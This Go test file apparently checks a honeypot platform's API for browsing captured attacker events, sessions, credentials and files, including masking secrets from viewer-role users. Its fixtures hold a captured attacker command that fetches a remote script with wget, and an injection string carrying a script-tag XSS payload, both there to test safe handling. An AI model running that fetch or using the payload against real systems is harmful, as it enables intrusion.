package api_test

import (
	"context"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/http"
	"net/netip"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/stretchr/testify/require"
	"golang.org/x/sync/errgroup"

	"github.com/decnet/decnet/api"
	"github.com/decnet/decnet/db"
	"github.com/decnet/decnet/internal/auth"
	"github.com/decnet/decnet/internal/ingest"
)

// hostile is what an intruder would send to change what surrounds it.
const hostile = "=<script>alert(1)</script>\"'`,;\r\n\t\\ \u202e 日本 %s &amp;"

const (
	sidA = "5a0e6b1c-1f7e-4a6c-9b3e-1b2f1c2d3e4f"
	// topSecret is a password; nobody but operators may see it in any form.
	topSecret = "hunter2-unguessable"
	intruder  = "203.0.113.7"
	other     = "2001:db8::66"
)

var noon = time.Date(2026, 5, 8, 12, 0, 0, 0, time.UTC)

// source is a decky of the fleet.
func source(decky, service string) ingest.Source {
	return ingest.Source{DeckyKey: decky, DeckyName: decky, DeckyID: uuid.NewSHA1(uuid.Nil, []byte(decky)), Service: service}
}

// line is one line of a decoy as the parser would give it.
type line struct {
	src    ingest.Source
	at     time.Duration
	kind   string
	from   string
	fields []string // key, value, ...
	msg    string
}

var extractor = ingest.NewExtractor(nil)

func (l line) extract(n int) ingest.Extraction {
	r := &ingest.Record{
		Time: noon.Add(l.at), App: l.src.Service, Host: l.src.DeckyName, Type: l.kind, Boot: "boot", Line: uint64(n), Msg: l.msg, Port: 4711,
	}
	if l.from != "" {
		r.Attacker = netip.MustParseAddr(l.from)
	}
	for i := 0; i < len(l.fields); i += 2 {
		r.Fields = append(r.Fields, ingest.Field{Key: l.fields[i], Value: l.fields[i+1]})
	}
	r.Raw = fmt.Sprintf("<134>1 %d %s %v %s", n, l.kind, l.fields, l.msg)
	return extractor.Extract(l.src, r)
}

// ingest stores lines as an ingester would.
func (b *bundle) ingest(t *testing.T, lines ...line) {
	t.Helper()
	batch := db.IngestBatch{}
	for i, l := range lines {
		batch.Extractions = append(batch.Extractions, l.extract(i+1))
	}
	_, err := b.store.Ingest(t.Context(), batch)
	require.NoError(t, err)
}

func (b *bundle) list(t *testing.T, as auth.Role, path string) []map[string]any {
	t.Helper()
	var page struct {
		Items []map[string]any `json:"items"`
	}
	b.must(t, http.StatusOK, call{as: as, method: http.MethodGet, path: path}).into(t, &page)
	require.NotNil(t, page.Items)
	return page.Items
}

// evidence stores what the tests look for: logins, a session with commands, a file, a mail, hostile texts.
func evidence(t *testing.T) *bundle {
	t.Helper()
	b := setup(t)
	b64 := base64.StdEncoding.EncodeToString([]byte(topSecret))
	web, mail, front := source("web-01", "ssh"), source("mail-01", "smtp"), source("web-02", "http")
	login := func(src ingest.Source, at time.Duration, from string) line {
		return line{src: src, at: at, kind: "auth_attempt", from: from, fields: []string{
			"src_ip", from, "username", "root", "principal", "root", "secret_kind", "plaintext", "secret_printable", topSecret,
			"secret_b64", b64, "outcome", "failure", "body", "pw=" + topSecret, "method", "password",
		}, msg: "password was " + topSecret}
	}
	b.ingest(t,
		line{src: web, at: 1 * time.Second, kind: "session_opened", from: intruder, fields: []string{"src_ip", intruder, "sid", sidA}},
		login(web, 2*time.Second, intruder),
		line{src: web, at: 3 * time.Second, kind: "command", from: intruder, fields: []string{
			"sid", sidA, "command", "wget http://198.51.100.1/x.sh", "uid", "0", "user", "root", "pwd", "/root",
		}},
		line{src: web, at: 4 * time.Second, kind: "command", from: intruder, fields: []string{"sid", sidA, "command", hostile, "user", hostile, "pwd", hostile}},
		line{src: web, at: 5 * time.Second, kind: "file_captured", from: intruder, fields: []string{
			"sid", sidA, "stored_as", "2026-05-08T12:00:05Z_0123456789ab_x.sh", "sha256", strings.Repeat("ab", 32), "size", "7", "orig_path", hostile,
		}},
		line{src: web, at: 6 * time.Second, kind: "session_closed", from: intruder, fields: []string{"sid", sidA, "duration_s", "5.000", "has_recording", "true"}},
		login(front, 7*time.Second, other),
		line{src: front, at: 8 * time.Second, kind: "request", from: other, fields: []string{
			"headers", `{"User-Agent":"curl/8.5.0","X-Forwarded-For":"8.8.8.8"}`, "path", "/admin", "body", "harmless body",
		}},
		line{src: mail, at: 9 * time.Second, kind: "rcpt_to", from: intruder, fields: []string{"value", "<a@victim.org>"}},
		line{src: web, at: 10 * time.Second, kind: "startup", msg: "service started"},
		line{src: ingest.ImportSource("old-pot", "ssh"), at: -time.Hour, kind: "connect", from: intruder},
	)
	return b
}

func TestEvents_FiltersAndSearch(t *testing.T) {
	t.Parallel()
	b := evidence(t)
	count := func(query string) int { return len(b.list(t, auth.Operator, "/events?"+query)) }
	for query, want := range map[string]int{
		"":                              11,
		"service=ssh":                   8,
		"service=ssh&type=command":      2,
		"decky=web-02":                  2,
		"decky=old-pot":                 1,
		"attacker=" + intruder:          8,
		"attacker=::ffff:" + intruder:   8,
		"attacker=2001:DB8:0::66":       2,
		"session=" + sidA:               5,
		"class=interaction&service=ssh": 3,
		"search=wget":                   1,
		"search=wge":                    1,
		"search=wget+service:ssh":       1,
		"search=wget+service:http":      0,
		"search=" + url.QueryEscape(`"198.51.100.1 x sh"`): 1,
		"search=uid:0":                                                         1,
		"search=attacker:" + other:                                             2,
		"search=event:command+class:interaction":                               2,
		"search=body:" + url.QueryEscape("harmless body"):                      0, // two parts: the second is a word
		"search=" + url.QueryEscape(`"body:harmless body"`):                    1,
		"from=2026-05-08T12:00:09Z":                                            2,
		"to=2026-05-08T12:00:00Z":                                              1,
		"from=2026-05-08T12:00:03Z&to=2026-05-08T12:00:05Z":                    2,
		"from=2026-05-08T14:00:03%2B02:00&to=2026-05-08T12:00:05Z&search=wget": 1,
		"search=nothing":                                                       0,
	} {
		require.Equal(t, want, count(query), query)
	}
	first := b.list(t, auth.Viewer, "/events")[0]
	require.Equal(t, "startup", first["type"])
	require.Nil(t, first["attacker_ip"])
	require.Equal(t, "service started", first["msg"])
	imported := b.list(t, auth.Viewer, "/events?decky=old-pot")[0]
	require.Equal(t, "old-pot", imported["sensor"])
	require.Nil(t, first["sensor"])
	same := b.must(t, http.StatusOK, call{as: auth.Viewer, method: http.MethodGet, path: "/events/" + first["id"].(string)}).json(t)
	require.Equal(t, first, same)
	for _, id := range []string{"999999999", "123456789012345678"} {
		r := b.do(t, call{as: auth.Viewer, method: http.MethodGet, path: "/events/" + id})
		require.Equal(t, "event_not_found", r.code(t))
	}
}

func TestEvidence_BadFiltersAreNamedAndNotRepeated(t *testing.T) {
	t.Parallel()
	b := setup(t)
	for path, where := range map[string]string{
		"/events?attacker=marker":                                   "query.attacker",
		"/events?search=secret_b64:marker":                          "query.search",
		"/events?search=marker" + strings.Repeat("+a", 40):          "query.search",
		"/events?search=---":                                        "query.search",
		"/events?search=ip:marker":                                  "query.search",
		"/events?class=marker":                                      "query.class",
		"/events?from=marker":                                       "query.from",
		"/events?service=marker%ff":                                 "query.service",
		"/events?decky=marker%00":                                   "query.decky",
		"/events?format=marker":                                     "query.format",
		"/events?max_rows=0":                                        "query.max_rows",
		"/events?max_rows=1000001&format=csv":                       "query.max_rows",
		"/events?limit=501":                                         "query.limit",
		"/events?cursor=marker":                                     "query.cursor",
		"/events?cursor=MS4x.":                                      "query.cursor",
		"/events?cursor=" + "OTIyMzM3MjAzNjg1NDc3NTgwNy4x":          "query.cursor",
		"/events?format=csv&cursor=MS54":                            "query.cursor",
		"/attackers?ip=marker":                                      "query.ip",
		"/attackers?ip=203.0.113.0/99":                              "query.ip",
		"/attackers?sort=marker":                                    "query.sort",
		"/attackers?cursor=MS54":                                    "query.cursor",
		"/sessions?attacker=marker":                                 "query.attacker",
		"/sessions?open=marker":                                     "query.open",
		"/commands?search=...":                                      "query.search",
		"/commands?session=marker":                                  "query.session",
		"/bounties?type=marker":                                     "query.type",
		"/credentials?attacker=marker":                              "query.attacker",
		"/credential-reuse?min_targets=1":                           "query.min_targets",
		"/artifacts?kind=marker":                                    "query.kind",
		"/artifacts?sha256=marker":                                  "query.sha256",
		"/artifacts?principal=a&service=" + strings.Repeat("s", 65): "query.service",
	} {
		r := b.do(t, call{as: auth.Admin, method: http.MethodGet, path: path})
		require.Equal(t, http.StatusUnprocessableEntity, r.status, "%s: %s", path, r.body)
		require.NotEmpty(t, r.code(t))
		require.Equal(t, []string{where}, r.locations(t), path)
		require.NotContains(t, string(r.body), "marker", path)
	}
}

func TestEvidence_UnknownIsNotFound(t *testing.T) {
	t.Parallel()
	b := setup(t)
	id := uuid.NewString()
	for path, code := range map[string]string{
		"/attackers/" + id: "attacker_not_found", "/attackers/192.0.2.1": "attacker_not_found", "/attackers/nobody": "attacker_not_found",
		"/sessions/" + id: "session_not_found", "/sessions/" + id + "/commands": "session_not_found", "/sessions/" + id + "/cast": "session_not_found",
		"/sessions/" + id + "/commands?format=csv": "session_not_found", "/credential-reuse/" + id: "credential_reuse_not_found",
		"/artifacts/" + id: "artifact_not_found", "/artifacts/" + id + "/content": "artifact_not_found",
	} {
		r := b.do(t, call{as: auth.Operator, method: http.MethodGet, path: path})
		require.Equal(t, http.StatusNotFound, r.status, path)
		require.Equal(t, code, r.code(t), path)
	}
	for _, path := range []string{"/sessions?attacker=192.0.2.1", "/commands?session=" + id, "/bounties?attacker=" + id} {
		require.Empty(t, b.list(t, auth.Viewer, path), path)
	}
}

func TestAttackers_ListAndOne(t *testing.T) {
	t.Parallel()
	b := evidence(t)
	all := b.list(t, auth.Viewer, "/attackers")
	require.Len(t, all, 2)
	require.Equal(t, intruder, all[0]["ip"])
	require.Equal(t, "web-01 → mail-01 → old-pot", all[0]["traversal"])
	require.Equal(t, []any{"victim.org"}, all[0]["victim_domains"])
	require.EqualValues(t, 8, all[0]["event_count"])
	require.EqualValues(t, 2, all[0]["command_count"])
	require.EqualValues(t, 1, all[0]["credential_count"])
	for _, id := range []string{all[0]["id"].(string), intruder, "::ffff:" + intruder} {
		require.Equal(t, all[0], b.must(t, http.StatusOK, call{as: auth.Viewer, method: http.MethodGet, path: "/attackers/" + id}).json(t))
	}
	for query, want := range map[string][]string{
		"sort=active": {intruder, other}, "sort=traversals": {intruder}, "ip=203.0.113.0/24": {intruder}, "ip=" + other: {other},
		"ip=2001:db8::/32": {other}, "ip=10.0.0.0/8": nil, "service=http": {other}, "decky=mail-01": {intruder},
		"from=2026-05-08T12:00:09Z": {intruder}, "to=2026-05-08T12:00:09Z": {other}, "sort=active&service=ssh&ip=0.0.0.0/0": {intruder},
	} {
		var got []string
		for _, a := range b.list(t, auth.Viewer, "/attackers?"+query) {
			got = append(got, a["ip"].(string))
		}
		require.Equal(t, want, got, query)
	}
	for _, sort := range []string{"recent", "active"} {
		require.Len(t, b.walk(t, "/attackers?sort="+sort, 1), 2)
	}
	require.Len(t, b.walk(t, "/attackers?sort=traversals", 1), 1)
}

func TestSessions_CommandsBountiesArtifacts(t *testing.T) {
	t.Parallel()
	b := evidence(t)
	sessions := b.list(t, auth.Viewer, "/sessions?open=false&recorded=true&attacker="+intruder+"&decky=web-01&service=ssh")
	require.Len(t, sessions, 1)
	require.Equal(t, sidA, sessions[0]["session"])
	require.InDelta(t, 5, sessions[0]["duration_s"], 0.001)
	require.EqualValues(t, 2, sessions[0]["command_count"])
	id := sessions[0]["id"].(string)
	require.Equal(t, sessions[0], b.must(t, http.StatusOK, call{as: auth.Viewer, method: http.MethodGet, path: "/sessions/" + id}).json(t))
	for _, query := range []string{"open=true", "recorded=false", "attacker=" + other, "decky=web-02", "from=2026-05-08T12:00:02Z", "to=2026-05-08T12:00:01Z"} {
		require.Empty(t, b.list(t, auth.Viewer, "/sessions?"+query), query)
	}
	commands := b.list(t, auth.Viewer, "/sessions/"+id+"/commands")
	require.Len(t, commands, 2)
	require.Equal(t, "wget http://198.51.100.1/x.sh", commands[0]["text"])
	require.Equal(t, sidA+"#3", commands[0]["ref"])
	require.Equal(t, []any{"0", "root", "/root"}, []any{commands[0]["uid"], commands[0]["username"], commands[0]["directory"]})
	require.Equal(t, hostile, commands[1]["text"])
	require.Equal(t, hostile, commands[1]["username"])
	require.Equal(t, commands, b.walk(t, "/sessions/"+id+"/commands", 1))
	for query, want := range map[string]int{
		"": 2, "search=wget": 1, "search=http://198.51": 1, "search=uid:0": 0, "session=" + id: 2, "session=" + id + "&decky=web-02": 0,
		"attacker=" + intruder: 2, "attacker=" + other: 0, "search=wget&session=" + id: 1, "search=nothing": 0, "service=ssh&search=script": 1,
	} {
		require.Len(t, b.list(t, auth.Viewer, "/commands?"+query), want, query)
	}
	artifacts := b.list(t, auth.Viewer, "/artifacts?kind=file&sha256="+strings.Repeat("ab", 32))
	require.Len(t, artifacts, 1)
	require.Equal(t, hostile, artifacts[0]["orig_path"])
	require.Equal(t, true, artifacts[0]["available"])
	require.Empty(t, b.list(t, auth.Viewer, "/artifacts?kind=mail"))
	require.Equal(t, artifacts[0], b.must(t, http.StatusOK, call{as: auth.Viewer, method: http.MethodGet, path: "/artifacts/" + artifacts[0]["id"].(string)}).json(t))
	bounties := b.list(t, auth.Viewer, "/bounties")
	require.NotEmpty(t, bounties)
	require.Len(t, b.list(t, auth.Viewer, "/bounties?type=artifact&kind=file&attacker="+artifacts[0]["attacker_id"].(string)), 1)
	require.IsType(t, map[string]any{}, bounties[0]["payload"])
	require.Equal(t, bounties, b.walk(t, "/bounties", 1))
}

func TestCredentials_AndReuse(t *testing.T) {
	t.Parallel()
	b := evidence(t)
	sum := sha256.Sum256([]byte(topSecret))
	all := b.list(t, auth.Operator, "/credentials?principal=root&outcome=failure&secret_kind=plaintext&secret="+topSecret)
	require.Len(t, all, 2)
	require.Equal(t, topSecret, all[0]["secret_printable"])
	require.Equal(t, hex.EncodeToString(sum[:]), all[0]["secret_sha256"])
	require.Empty(t, b.list(t, auth.Operator, "/credentials?secret=other"))
	require.Len(t, b.list(t, auth.Viewer, "/credentials?attacker="+other), 1)
	reuse := b.list(t, auth.Operator, "/credential-reuse")
	require.Len(t, reuse, 1)
	require.EqualValues(t, 2, reuse[0]["target_count"])
	require.Equal(t, []any{intruder, other}, reuse[0]["attacker_ips"])
	require.EqualValues(t, 1, reuse[0]["confidence"])
	require.Equal(t, reuse[0], b.must(t, http.StatusOK, call{as: auth.Operator, method: http.MethodGet, path: "/credential-reuse/" + reuse[0]["id"].(string)}).json(t))
	require.Empty(t, b.list(t, auth.Viewer, "/credential-reuse?min_targets=3"))
	r := b.do(t, call{as: auth.Viewer, method: http.MethodGet, path: "/credentials?secret=" + topSecret})
	require.Equal(t, http.StatusForbidden, r.status)
	require.NotContains(t, string(r.body), topSecret)
	r = b.do(t, call{as: auth.Viewer, method: http.MethodGet, path: "/credentials?format=csv&secret=" + topSecret})
	require.Equal(t, http.StatusForbidden, r.status)
}

// A viewer gets a secret by no route, in no form, and finds nothing by it.
func TestViewer_LearnsNoSecret(t *testing.T) {
	t.Parallel()
	b := evidence(t)
	sum := sha256.Sum256([]byte(topSecret))
	forms := []string{topSecret, base64.StdEncoding.EncodeToString([]byte(topSecret)), hex.EncodeToString(sum[:]), "unguessable"}
	lists := []string{"/events", "/attackers", "/sessions", "/commands", "/bounties", "/credentials", "/credential-reuse", "/artifacts"}
	paths := []string{"/ingest"}
	for _, l := range lists {
		for _, format := range []string{"json", "csv", "ndjson"} {
			paths = append(paths, l+"?format="+format)
		}
		for _, item := range b.list(t, auth.Viewer, l) {
			if l != "/commands" && l != "/bounties" && l != "/credentials" {
				paths = append(paths, l+"/"+item["id"].(string))
			}
		}
	}
	for _, path := range paths {
		r := b.must(t, http.StatusOK, call{as: auth.Viewer, method: http.MethodGet, path: path})
		for _, secret := range forms {
			require.NotContains(t, string(r.body), secret, path)
		}
		require.NotContains(t, string(r.body), "pw="+"hunter2", path)
	}
	for _, search := range []string{
		"unguessable", "hunter2", `"password was"`, `"body:pw=` + topSecret + `"`, "body:pw=" + topSecret, forms[2], "unguess",
	} {
		require.Empty(t, b.list(t, auth.Viewer, "/events?search="+url.QueryEscape(search)), search)
	}
	for _, item := range b.list(t, auth.Viewer, "/events?type=auth_attempt") {
		require.Equal(t, true, item["masked"])
		require.Nil(t, item["raw"])
		require.Nil(t, item["msg"])
		fields := item["fields"].(map[string]any)
		require.Equal(t, ingest.Mask, fields["secret_b64"])
		require.Equal(t, ingest.Mask, fields["body"])
		require.Equal(t, "root", fields["username"])
	}
	for _, item := range b.list(t, auth.Operator, "/events?type=auth_attempt") {
		require.Equal(t, false, item["masked"])
		require.Contains(t, item["raw"], topSecret)
	}
}

// A field without words is not looked for in the index, where no secret is; the rows themselves must not tell either.
func TestViewer_FindsNoSecretWithoutWords(t *testing.T) {
	t.Parallel()
	b := setup(t)
	b.ingest(t, line{src: source("web-01", "http"), kind: "auth", from: intruder, fields: []string{"secret_b64", "ISE=", "body", "!!"}},
		line{src: source("web-01", "http"), kind: "request", from: intruder, fields: []string{"body", "!!"}})
	require.Len(t, b.list(t, auth.Operator, "/events?search=body:!!"), 2)
	found := b.list(t, auth.Viewer, "/events?search=body:!!")
	require.Len(t, found, 1)
	require.Equal(t, "request", found[0]["type"])
}

// walk reads a list in pages of a size, by its cursors.
func (b *bundle) walk(t *testing.T, path string, limit int) []map[string]any {
	t.Helper()
	join := "?"
	if strings.Contains(path, "?") {
		join = "&"
	}
	path += join + "limit=" + fmt.Sprint(limit)
	var all []map[string]any
	for cursor := ""; ; {
		var page api.Page[map[string]any]
		b.must(t, http.StatusOK, call{as: auth.Operator, method: http.MethodGet, path: path + cursor}).into(t, &page)
		require.LessOrEqual(t, len(page.Items), limit)
		all = append(all, page.Items...)
		if page.NextCursor == nil {
			return all
		}
		cursor = "&cursor=" + *page.NextCursor
	}
}

// Events that come in while somebody reads are read or not; those that were there are read once.
func TestEvents_PagingWhileOthersCome(t *testing.T) {
	t.Parallel()
	b := setup(t)
	src := source("web-01", "ssh")
	fill := func(n int, word string, at func(int) time.Duration) []line {
		var lines []line
		for i := range n {
			lines = append(lines, line{src: src, at: at(i), kind: "connect", from: intruder, fields: []string{"text", fmt.Sprintf("%s %d", word, i)}})
		}
		return lines
	}
	// Many share a time.
	b.ingest(t, fill(300, "before", func(i int) time.Duration { return time.Duration(i/7) * time.Second })...)
	ctx, stop := context.WithCancel(t.Context())
	var g errgroup.Group
	g.Go(func() error {
		for i := 0; ctx.Err() == nil; i++ {
			batch := db.IngestBatch{}
			for j, l := range fill(5, "meanwhile", func(j int) time.Duration { return time.Duration((i*13+j*7)%60) * time.Second }) {
				batch.Extractions = append(batch.Extractions, l.extract(1000+i*5+j))
			}
			if _, err := b.store.Ingest(t.Context(), batch); err != nil {
				return err
			}
		}
		return nil
	})
	for _, path := range []string{"/events", "/events?search=before", "/events?service=ssh&search=b"} {
		seen := map[string]int{}
		for _, e := range b.walk(t, path, 17) {
			if strings.HasPrefix(e["fields"].(map[string]any)["text"].(string), "before") {
				seen[e["id"].(string)]++
			}
		}
		require.Len(t, seen, 300, path)
		for id, n := range seen {
			require.Equal(t, 1, n, id)
		}
	}
	stop()
	require.NoError(t, g.Wait())
}

func TestIngest_Outcomes(t *testing.T) {
	t.Parallel()
	b := setup(t)
	require.JSONEq(t, `{"items":[],"last_received_at":null}`, string(b.must(t, http.StatusOK, call{as: auth.Viewer, method: http.MethodGet, path: "/ingest"}).body))
	_, err := b.store.Ingest(t.Context(), db.IngestBatch{
		Extractions: []ingest.Extraction{line{src: source("web-01", "ssh"), kind: "connect", from: intruder}.extract(1)},
		Outcomes: []db.IngestOutcome{
			{DeckyKey: "web-01", Service: "ssh", Outcome: db.OutcomeStored, Lines: 12},
			{DeckyKey: "web-01", Service: "ssh", Outcome: db.OutcomeMissing, Lines: 3},
			{DeckyKey: "web-01", Service: "ftp", Outcome: db.OutcomeDroppedRate, Lines: 1},
		},
	})
	require.NoError(t, err)
	body := b.must(t, http.StatusOK, call{as: auth.Viewer, method: http.MethodGet, path: "/ingest"}).json(t)
	require.NotNil(t, body["last_received_at"])
	items, err := json.Marshal(body["items"])
	require.NoError(t, err)
	require.JSONEq(t, `[{"decky_key":"web-01","service":"ftp","outcomes":{"dropped_rate":1}},
		{"decky_key":"web-01","service":"ssh","outcomes":{"stored":12,"missing":3}}]`, string(items))
}
